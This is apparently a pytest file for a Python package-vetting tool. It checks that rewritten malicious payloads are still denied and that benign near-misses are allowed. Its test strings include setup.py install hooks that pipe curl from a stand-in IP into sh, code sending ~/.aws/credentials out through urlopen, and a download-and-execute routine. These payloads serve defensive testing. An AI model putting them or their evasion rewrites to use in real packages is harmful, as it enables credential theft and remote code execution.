"""Meaning-preserving rewrites of known payloads (ADR 0123, ``bench/mutate_vet.py``): what an
attacker who knows the flow pass tries first must not change the verdict.

* Module code moved into a class body: Python runs the body once, in one namespace, and
  binds the names it declares ``global`` in the module.
* ``__import__('a.b')`` returns package ``a`` (``import a.b`` binds ``a``): its ``.b`` is
  the module ``a.b``.

Each sample is inert (vetting only reads files). The near-misses are what real packages
write in class bodies and with ``__import__``."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import (
    GIT_VERSION,
    SYS_PATH_LOADER,
    init,
    verdict_cases,
    vet_package,
)

URL = "http://203.0.113.5/c"
CREDS = "open(os.path.expanduser('~/.aws/credentials'), 'rb').read()"

DENIED: dict[str, dict[str, str]] = {
    "class-body-imports-then-runs-on-import": init(
        f"class _Module:\n    import os\n    os.system('curl -s {URL} | sh')\n"
    ),
    "class-body-global-import-used-by-module-code-on-import": init(
        f"class _Module:\n    global os, u\n    import os\n    u = '{URL}'\n"
        "os.system('curl -s ' + u + ' | sh')\n"
    ),
    "class-body-global-names-used-by-an-install-command": {
        "setup.py": (
            "class _Module:\n"
            "    global os, install, setup, Post\n"
            "    import os\n"
            "    from setuptools import setup\n"
            "    from setuptools.command.install import install\n"
            "    class Post(install):\n"
            "        def run(self):\n"
            "            install.run(self)\n"
            f"            os.system('curl -s {URL} | sh')\n"
            "    setup(name='evpkg', version='1.0', cmdclass={'install': Post})\n"
        )
    },
    "dotted-dunder-import-then-its-submodule-on-import": init(
        f"import os\nu = __import__('urllib.request').request\nu.urlopen('{URL}', data={CREDS})\n"
    ),
    "dotted-dunder-import-in-a-function-run-on-import": init(
        "import os\n"
        "def sync():\n"
        "    r = __import__('urllib.request')\n"
        f"    r.request.urlopen('{URL}', data={CREDS})\n"
        "sync()\n"
    ),
}

HELD: dict[str, dict[str, str]] = {}

ALLOWED: dict[str, dict[str, str]] = {
    "class-body-constants-from-an-import": init(
        "class Config:\n    import os\n    home = os.path.expanduser('~')\n    sep = os.sep\n"
    ),
    "class-body-global-counter": init(
        "class Registry:\n    global _count\n    _count = 0\n    items = []\n"
        "def register(x):\n    Registry.items.append(x)\n"
    ),
    "class-body-global-logger": init(
        "class Base:\n    global log\n    import logging\n    log = logging.getLogger('evpkg')\n"
        "log.debug('loaded')\n"
    ),
    "dotted-dunder-import-of-a-parser": init(
        "d = __import__('json.decoder').decoder\nDECODER = d.JSONDecoder()\n"
    ),
    "dotted-import-module-quote": init(
        "import importlib\nparse = importlib.import_module('urllib.parse')\n"
        "SAFE = parse.quote('a b')\n"
    ),
    "dotted-dunder-import-with-fromlist": init(
        "m = __import__('os.path', fromlist=['join'])\nROOT = m.join('a', 'b')\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


SETUP_ALLOWED: dict[str, dict[str, str]] = {
    "setup-imports-a-build-module-that-reads-the-git-version": {
        "setup.py": SYS_PATH_LOADER + "import _build\n",
        "_build.py": (
            "from setuptools import setup\nfrom _version import get_version\n"
            "setup(name='evpkg', version=get_version(), packages=['evpkg'])\n"
        ),
        "_version.py": GIT_VERSION,
        "evpkg/__init__.py": "",
    },
    "setup-imports-a-build-module-whose-command-formats-code": {
        "setup.py": "import _build\n",
        "_build.py": (
            "from setuptools import Command, setup\nfrom _tools import tidy\n"
            "class Fmt(Command):\n    user_options = []\n"
            "    def initialize_options(self):\n        pass\n"
            "    def finalize_options(self):\n        pass\n"
            "    def run(self):\n        tidy()\n"
            "setup(name='evpkg', packages=['evpkg'], cmdclass={'fmt': Fmt})\n"
        ),
        "_tools.py": (
            "import pathlib\n"
            "def tidy():\n    for p in pathlib.Path('evpkg').glob('*.py'):\n"
            "        p.write_text(p.read_text().rstrip() + '\\n')\n"
        ),
        "evpkg/__init__.py": "",
    },
}


# A wheel has no install time: ``rcsetup.py`` is not ``setup.py`` (matplotlib's wheel was
# held once helpers were followed from it), and what it imports runs only when imported.
WHEEL_RUNNER = (
    "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, capture_output=True).stdout\n"
)
SETUP_ALLOWED |= {
    "wheel-module-named-rcsetup-importing-a-process-helper": {
        "evpkg/__init__.py": "",
        "evpkg/rcsetup.py": "import tools\n",
        "evpkg/tools.py": WHEEL_RUNNER,
    },
    "wheel-module-named-rcsetup-importing-a-module-that-imports-a-process-helper": {
        "evpkg/__init__.py": "",
        "evpkg/rcsetup.py": "from typing import Any\n",
        "evpkg/typing.py": "import cbook\n",
        "evpkg/cbook.py": WHEEL_RUNNER,
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases({}, {}, SETUP_ALLOWED))
def test_setup_helpers(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


GETATTR_DENIED: dict[str, dict[str, str]] = {
    # Not called on import: the chain, not the hidden callee, is what denies it.
    "download-written-through-getattr-then-run-when-called": init(
        "import os, requests\n"
        "def fetch():\n"
        "    r = requests.get('https://203.0.113.5/s.bin')\n"
        "    with open('/tmp/s.bin', 'wb') as f:\n"
        "        getattr(f, 'write')(getattr(r, 'content'))\n"
        "    os.system('/tmp/s.bin')\n"
    ),
}

GETATTR_ALLOWED: dict[str, dict[str, str]] = {
    "settings-written-through-getattr-on-import": init(
        "import json, os\n"
        "def save(cfg):\n"
        "    with open(os.path.join(os.path.dirname(__file__), 'cfg.json'), 'w') as f:\n"
        "        getattr(f, 'write')(json.dumps(cfg))\n"
        "save({'a': 1})\n"
    ),
    "buffer-read-through-getattr": init(
        "import io\nbuf = io.StringIO()\nbuf.write('x')\nTEXT = getattr(buf, 'getvalue')()\n"
    ),
    "download-kept-in-memory-through-getattr": init(
        "import requests\n"
        "def page():\n"
        "    r = requests.get('https://example.org/')\n"
        "    return getattr(r, 'text')\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(GETATTR_DENIED, {}, GETATTR_ALLOWED))
def test_getattr_of_data(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


# A look-alike imported by a written name on a module-level line runs on import as
# ``import sockets`` does (ADR 0123): held as the statement is.
WRITTEN_HELD: dict[str, dict[str, str]] = {
    "stdlib-look-alike-by-dunder-import": init("sockets = __import__('sockets')\n"),
    "stdlib-look-alike-by-importlib-through-dunder-import": init(
        "sockets = __import__('importlib').import_module('sockets')\n"
    ),
    "popular-look-alike-by-import-module": init(
        "import importlib\nhttp = importlib.import_module('reqeusts')\n"
    ),
}

WRITTEN_ALLOWED: dict[str, dict[str, str]] = {
    "stdlib-by-dunder-import": init("json = __import__('json')\n"),
    "optional-speedup-by-import-module": init(
        "import importlib\ntry:\n    fast = importlib.import_module('ujson')\n"
        "except ImportError:\n    fast = None\n"
    ),
    "plugin-by-a-name-from-configuration": init(
        "import importlib, os\n"
        "plugin = importlib.import_module(os.environ.get('EVPKG_PLUGIN', 'json'))\n"
    ),
    "look-alike-spelt-in-a-one-line-function": init("def load(): return __import__('sockets')\n"),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases({}, WRITTEN_HELD, WRITTEN_ALLOWED))
def test_written_imports(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
